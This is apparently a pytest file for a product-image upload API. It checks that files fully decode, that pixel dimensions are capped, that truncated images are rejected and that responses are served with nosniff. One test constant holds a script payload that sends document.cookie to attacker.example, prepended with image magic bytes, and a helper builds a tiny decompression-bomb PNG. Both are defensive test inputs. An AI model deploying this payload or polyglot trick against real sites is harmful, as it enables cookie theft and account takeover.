"""Uploaded images (docs/security.md, "Uploads"): the whole file must decode, with Pillow, as an image
of the declared type (422 naming `image` otherwise, nothing stored), dimensions are bounded before
decoding, and media files are served with `X-Content-Type-Options: nosniff`."""
import io
import random
import struct
import zlib
from urllib.parse import urlsplit

import pytest
from PIL import Image

from storage.db import database
from storage.models import ProductImage
from tests.admin_fixtures import admin_client, super_admin  # noqa: F401 (fixtures)
from tests.product_fixtures import media_root, restored_products  # noqa: F401 (fixture)

BASE = "/api/admin/catalog/products"
CONTENT_TYPES = {"png": "image/png", "jpeg": "image/jpeg", "bmp": "image/bmp", "webp": "image/webp"}


def encoded(kind: str, size=(48, 32), **options) -> bytes:
    """A real image of `kind`, noisy so that it does not compress to almost nothing."""
    rng = random.Random(7)
    image = Image.new("RGB", size)
    image.putdata([(rng.randrange(256), rng.randrange(256), rng.randrange(256)) for _ in range(size[0] * size[1])])
    stream = io.BytesIO()
    image.save(stream, format=kind.upper(), **options)
    return stream.getvalue()


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_declaring(width: int, height: int) -> bytes:
    """A well-formed PNG whose header declares width x height grey pixels, with a tiny data stream."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\x00" * 64))
            + chunk(b"IEND", b""))


def upload(admin_client, data: bytes, kind: str = "png"):
    extension = "jpg" if kind == "jpeg" else kind
    return admin_client.post(f"{BASE}/1/images", files={"image": (f"photo.{extension}", data, CONTENT_TYPES[kind])})


def assert_refused(response, message: str):
    assert response.status_code == 422, response.text
    assert response.json() == {"message": "The given data was invalid.", "error": "validation_failed",
                               "errors": {"image": [message]}}


HTML = b"<html><script>document.location='https://attacker.example/?'+document.cookie</script></html>"


@pytest.mark.parametrize("kind, data", [
    ("png", b"\x89PNG\r\n\x1a\n" + HTML),
    ("jpeg", b"\xff\xd8\xff\xe0" + HTML),
    ("bmp", b"BM" + HTML),
    ("webp", b"RIFF\x00\x01\x00\x00WEBP" + HTML),
])
def test_magic_bytes_followed_by_anything_else_are_refused(admin_client, media_root, kind, data):
    assert_refused(upload(admin_client, data, kind), f"The image could not be decoded as a {kind} image.")
    assert list(media_root.rglob("*.*")) == []


@pytest.mark.parametrize("kind", ["png", "jpeg", "bmp", "webp"])
def test_truncated_and_corrupted_images_are_refused(admin_client, media_root, kind):
    whole = encoded(kind, **({"quality": 95} if kind in ("jpeg", "webp") else {}))
    truncated = whole[:len(whole) * 2 // 3]
    assert_refused(upload(admin_client, truncated, kind), f"The image could not be decoded as a {kind} image.")
    if kind == "png":  # a flipped byte inside the pixel data: the chunk checksum no longer matches
        corrupted = bytearray(whole)
        corrupted[len(whole) // 2] ^= 0xFF
        assert_refused(upload(admin_client, bytes(corrupted), kind), "The image could not be decoded as a png image.")
    assert list(media_root.rglob("*.*")) == []


def test_an_image_of_another_type_under_a_png_name_is_refused(admin_client, media_root):
    jpeg = encoded("jpeg")
    assert_refused(upload(admin_client, b"\x89PNG\r\n\x1a\n" + jpeg[3:], "png"),
                   "The image could not be decoded as a png image.")


def test_dimensions_are_bounded_before_decoding(admin_client, media_root):
    for width, height in ((10_000, 5_000), (50_000, 50_000)):
        bomb = png_declaring(width, height)
        assert len(bomb) < 200
        assert_refused(upload(admin_client, bomb), "The image may not have more than 40000000 pixels.")
    assert list(media_root.rglob("*.*")) == []


@pytest.mark.parametrize("kind", ["png", "jpeg", "bmp", "webp"])
def test_whole_images_are_accepted_and_served_with_nosniff(admin_client, client, media_root, kind):
    data = encoded(kind)
    with restored_products(1):
        response = upload(admin_client, data, kind)
        assert response.status_code == 201, response.text
        image = response.json()
        assert (media_root / image["path"]).read_bytes() == data
        served = client.get(urlsplit(image["url"]).path)
        assert served.status_code == 200 and served.content == data
        assert served.headers["X-Content-Type-Options"] == "nosniff"
        assert served.headers["content-type"] == CONTENT_TYPES[kind] or (kind == "bmp" and "bmp" in
                                                                         served.headers["content-type"])
        head = client.head(urlsplit(image["url"]).path)
        assert head.status_code == 200 and head.headers["X-Content-Type-Options"] == "nosniff"


def test_every_frame_of_an_animated_image_must_decode(admin_client, media_root):
    frames = [Image.new("RGB", (16, 16), color) for color in ("red", "green", "blue")]
    stream = io.BytesIO()
    frames[0].save(stream, format="PNG", save_all=True, append_images=frames[1:])
    animated = stream.getvalue()
    with restored_products(1):
        assert upload(admin_client, animated).status_code == 201
        with database.connection_context():
            assert ProductImage.select().where(ProductImage.product == 1).count() == 3
    cut = animated[:len(animated) - 40]  # the last frame's data and the end marker are missing
    assert_refused(upload(admin_client, cut), "The image could not be decoded as a png image.")
